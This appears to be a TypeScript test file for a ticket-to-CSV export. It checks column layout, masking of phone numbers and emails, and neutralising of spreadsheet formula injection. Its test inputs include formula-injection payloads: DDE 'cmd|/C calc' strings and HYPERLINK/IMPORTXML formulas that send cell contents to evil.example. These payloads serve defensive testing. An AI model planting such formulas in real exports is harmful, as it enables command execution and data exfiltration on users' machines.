// Tickets as a spreadsheet: what stands in its cells, and that no cell is taken for a formula.

import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { csvHeader, csvOf, defuse } from '../../src/desk/csv';
import type { Ticket } from '../../src/tickets/ticket';

const AT = '2026-11-22T04:00:00.000Z';
const TICKET: Ticket = {
  number: 'FZ-20261122-0001',
  kind: 'freeze',
  status: 'waiting',
  nextStep: '复核，请致电 13800138000',
  missing: ['document.statement', '进货单'],
  assignee: { id: 'st_li', name: '李雷' },
  held: true,
  language: 'zh-Hans',
  channel: 'directline',
  conversationId: 'a',
  createdAt: AT,
  updatedAt: AT,
  fields: {
    merchantId: '898310148160568',
    terminalId: '10293847',
    provider: '拉卡拉',
    frozenAt: { said: '昨天下午', at: '2026-11-21' },
    notice: '交易受限\n请联系 anna@example.com',
    contact: { kind: 'phone', value: '13800138000', name: '余小姐', note: '晚上打' },
  },
  questions: [],
  transcript: [],
  rating: { at: AT, score: 5, comment: '=1+1' },
};

function rowsOf(text: string): Record<string, string>[] {
  return parse(csvHeader() + text, { columns: true, record_delimiter: '\r\n' });
}

function noticeIn(notice: string): string {
  const ticket = { ...TICKET, fields: { ...TICKET.fields, notice } };
  return rowsOf(csvOf([ticket], { contacts: true }))[0]?.notice ?? '';
}

it('has one line for each ticket, under fixed names', () => {
  const rows = rowsOf(
    csvOf([TICKET, { ...TICKET, number: 'FZ-20261122-0002' }], { contacts: true }),
  );
  expect(rows.map(({ number }) => number)).toEqual(['FZ-20261122-0001', 'FZ-20261122-0002']);
  expect(rows[0]).toEqual({
    number: 'FZ-20261122-0001',
    kind: 'freeze',
    status: 'waiting',
    tags: '',
    reason: '',
    mergedInto: '',
    language: 'zh-Hans',
    provider: '拉卡拉',
    merchantId: '898310148160568',
    terminalId: '10293847',
    scope: '',
    frozenAt: '2026-11-21',
    amount: '',
    amountYuan: '',
    notice: '交易受限\n请联系 anna@example.com',
    screenCodes: '',
    before: '',
    question: '',
    open: '',
    contactKind: 'phone',
    contact: '13800138000',
    contactName: '余小姐',
    contactNote: '晚上打',
    causes: '',
    papers: '0',
    team: '',
    assignee: '李雷',
    held: 'true',
    nextStep: '复核，请致电 13800138000',
    missing: 'document.statement; 进货单',
    rating: '5',
    ratingComment: "'=1+1",
    channel: 'directline',
    createdAt: AT,
    updatedAt: AT,
    awaitingSince: '',
    firstReplyAt: '',
  });
});

it('gives held money in words and as a number, and the fields that are open', () => {
  const fields = { ...TICKET.fields, amount: { said: '三万多，打13912345678', yuan: 30_000 } };
  const ticket: Ticket = { ...TICKET, kind: 'settlement', fields, open: ['notice', 'terminalId'] };
  const [row] = rowsOf(csvOf([ticket], { contacts: false }));
  expect(row).toMatchObject({
    kind: 'settlement',
    amount: '三万多，打139****5678',
    amountYuan: '30000',
    open: 'notice terminalId',
  });
});

it('shows contacts in part, in every text', () => {
  const text = csvOf([TICKET], { contacts: false });
  expect(text).not.toMatch(/13800138000|anna@/);
  const [row] = rowsOf(text);
  expect(row).toMatchObject({
    contact: '138****8000',
    notice: '交易受限\n请联系 a***@example.com',
    nextStep: '复核，请致电 138****8000',
    merchantId: '898310148160568',
  });
});

it.each([
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  ' =1+1',
  '\u3000=1+1',
  '\ufeff=1+1',
  '\u200b＝1+1',
  '\0=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  '=IMPORTXML(CONCAT("http://evil.example/",A1:Z9),"//a")',
  '@evil',
  '-2+3+cmd|" /C calc"!A0',
  '+8613800138000',
])('makes a text of %j', (hostile) => {
  expect(noticeIn(hostile)).toBe(`'${hostile}`);
});

it.each([
  '交易受限',
  '1+1=2',
  "'quoted'",
  '"quoted"',
  'a;=1+1',
  'a,=1+1',
  'a\n=1+1',
  '50%',
  '(=1)',
  '',
])('leaves %j as it is', (harmless) => {
  expect(noticeIn(harmless)).toBe(harmless);
});

it('puts every cell in quotes, so that no separator inside one begins another', () => {
  const lines = csvOf([{ ...TICKET, fields: { ...TICKET.fields, notice: 'a;=1+1' } }], {
    contacts: true,
  });
  expect(lines).toContain('"a;=1+1"');
  expect(lines.trimEnd().split('","')).toHaveLength(37);
});

const hostile = fc
  .array(
    fc.oneof(
      fc.constantFrom(
        '=',
        '+',
        '-',
        '@',
        '\t',
        '\r',
        '\n',
        '＝',
        '＋',
        '－',
        '＠',
        '"',
        "'",
        ',',
        ';',
        ' ',
        '\ufeff',
        '\u200b',
        '\r\n',
        '|',
      ),
      fc.string({ unit: 'binary', maxLength: 3 }),
    ),
    { maxLength: 8 },
  )
  .map((parts) => parts.join(''));

it('never begins a cell with what begins a formula, and loses nothing of the text', () => {
  fc.assert(
    fc.property(hostile, (text) => {
      const cell = noticeIn(text);
      expect(cell).toMatch(/^(?![=+\-@＝＋－＠\t\r])/u);
      expect(cell.replace(/^[\p{Z}\p{Cc}\p{Cf}]+/u, '')).toMatch(/^(?![=+\-@＝＋－＠])/u);
      expect([text, `'${text}`]).toContain(cell);
    }),
    { numRuns: 2000 },
  );
});

it('defuses no text twice', () => {
  fc.assert(fc.property(hostile, (text) => expect(defuse(defuse(text))).toBe(defuse(text))));
});
